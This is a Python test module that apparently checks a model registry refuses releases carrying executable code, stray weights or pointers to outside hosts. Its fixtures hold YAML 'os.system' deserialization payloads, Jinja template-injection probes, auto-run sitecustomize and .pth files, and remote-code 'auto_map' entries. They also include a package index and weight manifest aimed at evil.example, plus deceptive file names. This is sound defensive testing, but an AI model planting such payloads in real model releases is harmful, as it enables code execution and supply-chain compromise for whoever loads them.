"""What a release should not hold: code, stray weights, names of other machines. Signed or not, it is refused for that.

A maintainer who signs them has records that fit: the stage that trained states that it wrote them.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import save

from registry.records import layout
from registry.records.release_record import Declared
from registry.release import signing
from tests import synthetic_release
from tests.e2e.tampering import spoil
from tests.e2e.tampering.world import Attempt, Case, World
from tests.registry.formats.test_known import DANGERS, UNKNOWN
from tests.registry.formats.test_skops import changed, made_as, scaled

NAMES = ("weights.dat", "model.safetensors", "vocab.json", "sub/pytorch_model.bin")
"""A danger is one by whatever name."""
STRAY = {
    "evil.safetensors": save({"evil": np.ones(3, dtype=np.float32)}),
    "adapter_model.safetensors": save({"base.lora_A.weight": np.ones((2, 2), dtype=np.float32)}),
    "unet/diffusion_pytorch_model.safetensors": save({"w": np.ones(3, dtype=np.float32)}),
    "model-00002-of-00002.safetensors": save({"layer": np.ones(3, dtype=np.uint8)}),
}
"""Weights that a loader takes by itself, or by a word in config.json; the last has a tensor that is there already."""
OTHER_WEIGHTS = {
    "flax_model.msgpack": b"\x81\xa1w\x93\x01\x02\x03\xc4",
    "tf_model.h5": b"\x89HDF\r\n\x1a\n" + bytes(64),
    "weights.SAFETENSORS": STRAY["evil.safetensors"],
    "model.onnx": b"\x08\x08\x3a\x03\x12\x01g",
    "coreml/model.mlmodel": b"\x08\x04\x12\x00",
    "rust_model.ot": b"\x00\x01\x02",
    "model.onnx_data": bytes(range(200)),
    "model.skops": scaled(),
    "array.npy": b"\x93NUMPY\x01\x00\x76\x00"
    + b"{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }".ljust(117)
    + b"\n"
    + bytes(4),
}
"""Weights in another form, which the release record does not list."""
PATHS = (
    "aux", "CON.txt", "nul.json", "COM1", "README.md:evil", "a*b", ".git/config", ".git/hooks/post-checkout", ".GIT/x",
    "git~1/config", ".g\u200cit/config", "READ\u200cME.md", "\ufeffx", "a\u202egnp.exe", "a\u2028b", "lpt1.tar.gz",
)  # fmt: skip
BY_ITSELF = {
    "sitecustomize.py": b"print('owned')\n",
    "sub/usercustomize.py": b"print('owned')\n",
    "x.pth": b"import os\n",
}
CODE = {
    "modeling_x.py": (b"class X: pass\n", "trust_remote_code"),
    "run.sh": (b"true\n", "whoever starts it"),
    "start": (b"#!/bin/sh\ntrue\n", "a script"),
    "config.json": (json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}).encode(), "modeling_x.X"),
    "tokenizer_config.json": (json.dumps({"auto_map": {"A": ["evil/repo--m.X", None]}}).encode(), "evil/repo"),
    "model_index.json": (json.dumps({"custom_pipelines": "evil/pipe--x"}).encode(), "evil/pipe"),
    "chat_template.jinja": (b"{{ ''.__class__.__mro__ }}", "__mro__"),
    "other.jinja": (b"{{ x | attr('_y') }}", "attr"),
    "third.jinja": (b"{% include 'x' %}", "include"),
    "broken.jinja": (b"{% if %}", "not Jinja"),
    "chat_template.json": (b"""{"chat_template": "{{ ''.__class__ }}"}""", "__class__"),
    "config.4.0.0.json": (json.dumps({"a": {"auto_map": {"A": "evil/repo--m.X"}}}).encode(), "evil/repo"),
    "text/config.json": (json.dumps({"attn_implementation": "evil/kernel"}).encode(), "the kernel evil/kernel"),
    "modules.json": (json.dumps([{"type": "torch.serialization"}]).encode(), "import torch.serialization"),
    "unet/model_index.json": (json.dumps({"_class_name": "P", "a": ["os", "system"]}).encode(), "import os"),
    "adapter_config.json": (json.dumps({"auto_mapping": {"parent_library": "os"}}).encode(), "import os"),
    "hydra.yaml": (b"model: {_target_: os.system}\n", "_target_"),
    ".vscode/tasks.json": (b"{}", "tools go by it"),
    "twice/config.json": (b'{"auto_map": {"A": "evil/x--m.X"}, "auto_map": null}', "stands twice"),
    "flow.yaml": (b'{"a":!!python/object/apply:os.system ["id"]}', "call as they read it"),
    "ldm.yaml": (b"model:\n  target: os.system\n", "call as they read it"),
    "lora/adapter_config.json": (json.dumps({"shadow_model": "evil/x"}).encode(), "take weights from evil/x"),
    "megatron/adapter_config.json": (json.dumps({"megatron_core": "evil"}).encode(), "import evil"),
    "draft/config.json": (json.dumps({"speculative_config": {"model": "evil/x"}}).encode(), "take weights from evil/x"),
    "fetching.svg": (b"<svg><image href='http://evil.example/x'/></svg>", "a picture with code"),
    "requirements.txt": (b"--index-url https://evil.example\n", "tools go by it"),
    "sub/config.json": (json.dumps({"configuration_files": ["../config.4.0.0.json"]}).encode(), "in place of config"),
    "deep/tokenizer_config.json": (json.dumps({"fast_tokenizer_files": ["tokenizer.4.0.0.json"]}).encode(), "4.0.0"),
    "provenance/config.4.0.0.json": (json.dumps({"auto_map": {"A": "evil/repo--m.X"}}).encode(), "evil/repo"),
}
"""Code that somebody would have to run: {path: (bytes, word of the report)}."""


LEADING_OUT: dict[str, Any] = {
    "modules.json": [{"path": "../x", "type": "sentence_transformers.models.Transformer"}],
    "model_index.json": {"_class_name": "P", "../x": ["diffusers", "U"]},
    "ndarray-cache.json": {"records": [{"dataPath": "../x.bin"}]},
    "web/model.json": {"weightsManifest": [{"paths": ["https://evil.example/x.bin"]}]},
}
"""Settings that have a loader go out of the release."""
UNFAMILIAR = ("a.mak", "MLmodel", "config.cfg", "x.command", "fabfile", "conf.toml", "openvino_model.xml")
"""Texts by names of which nobody knows that nothing runs them."""


POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 9\n"


def cases() -> Iterator[Case]:
    """Every one of them."""
    for what, data in DANGERS.items():
        for name in NAMES:
            yield Case(f"{what}, called {name}", spoil.write(name, data), 0, name)
        yield Case(f"signed: {what}", signed({"weights.dat": data}), 0, "weights.dat")
    for what, data in UNKNOWN.items():
        yield Case(f"weights that are {what}", spoil.write("a.bin", data), 0, "a.bin", ("not say why",))
        yield Case(f"signed: weights that are {what}", signed({"a.bin": data}), 0, "a.bin")
        yield Case(f"signed: {what}", signed({"a.dat": data}), 0, "a.dat", ("not say why",), 3)
        told = (Declared(path="a.dat", why="because"),)
        yield Case(f"signed and declared: {what}", signed({"a.dat": data}, told), 0, "a.dat", ("because",), 3)
    for what, before in {"a long line": b"V" + b"A" * 70_000 + b"\n0", "another pickle": b"N."}.items():
        yield Case(
            f"signed: a pickle behind {what}", signed({"weights.dat": before + DANGERS["pickle 0"]}), 0, "weights.dat"
        )
    for place in ("../x.safetensors", "/x.safetensors"):
        index = json.dumps({"weight_map": {"layer": place}}).encode()
        name = "model.safetensors.index.json"
        yield Case(f"signed: tensors from {place}", signed({name: index}), 0, name, ("takes tensors from",))
    for what, places, code in (
        ("another tensor", {"layer2": "model.safetensors"}, 1), ("no tensor", {}, 3), ("a list", ["layer"], 1),
        ("a file that is not there", {"layer": "model.safetensors", "a": "x.safetensors"}, 3),
    ):  # fmt: skip
        name = "model.safetensors.index.json"
        change = signed({name: json.dumps({"weight_map": places}).encode()})
        yield Case(f"signed: an index of {what}", change, 5, f"weights <- {name}", (name,), code)
    change = signed({"tekken.json": b"{}"})
    yield Case("signed: another tokenizer", change, 5, "checkpoints <- tokens", ("some loaders take tekken.json",), 3)
    for name, value in LEADING_OUT.items():
        yield Case(f"signed: {name} that leads out", signed({name: json.dumps(value).encode()}), 0, name, ("release",))
    for name, data in STRAY.items():
        yield Case(f"signed: stray weights {name}", signed({name: data}), 5, "weights <- checkpoints")
    for name, data in OTHER_WEIGHTS.items():
        yield Case(f"signed: other weights {name}", signed({name: data}), 5, "weights <- provenance")
    for loader, module, name in (("ObjectNode", "os", "system"), ("FunctionNode", "builtins", "eval")):
        data = changed(made_as(loader, module, name))
        words = ("not on the list of types", f"{module}.{name}")
        yield Case(f"signed: skops that makes {name}", signed({"model.skops": data}), 0, "model.skops", words)
    yield Case("signed: a pointer of Git LFS", signed({"vocab.txt": POINTER}), 0, "vocab.txt", ("Git LFS",), 3)
    for task in ("bits-per-byte", "mmlu"):
        shown, figure = f"{layout.RESULTS}/a.yaml", f"- dataset: {{id: org/data, task_id: {task}}}\n  value: 0.01\n"
        change = signed({shown: figure.encode()})
        told_of = (f"no record of the release has {task} on org/data",)
        yield Case(f"signed: a figure of {task} that was not measured", change, 5, f"{shown} <- records", told_of, 3)
    for path in PATHS:
        yield Case(f"a file called {path!r}", spoil.write(path, b"{}"), 0, "", ("not allowed",))
    for name, data in BY_ITSELF.items():
        yield Case(f"signed: {name}", signed({name: data}), 0, name, ("Python runs it",))
    for name in UNFAMILIAR:
        yield Case(f"signed: a text called {name}", signed({name: b"x\n"}), 0, name, ("a name that is not known",), 3)
    for name, (data, word) in CODE.items():
        yield Case(f"signed: code in {name}", signed({name: data}), 0, name, ("carries code", word), 3)


def signed(files: Mapping[str, bytes], declared: tuple[Declared, ...] = ()) -> Callable[[World, Path], Attempt | None]:
    """The release is another: with those files, as its maintainer would sign it with the checks of signing off."""

    def spoiled(world: World, root: Path) -> Attempt | None:
        for path in sorted(root.rglob("*"), reverse=True):
            path.unlink() if path.is_file() else path.rmdir()
        synthetic_release.write(root, extra=files, declared=declared)
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(signing, "_check_weights", lambda *_: None)
            signing.sign(root, world.signer)
        return None

    return spoiled
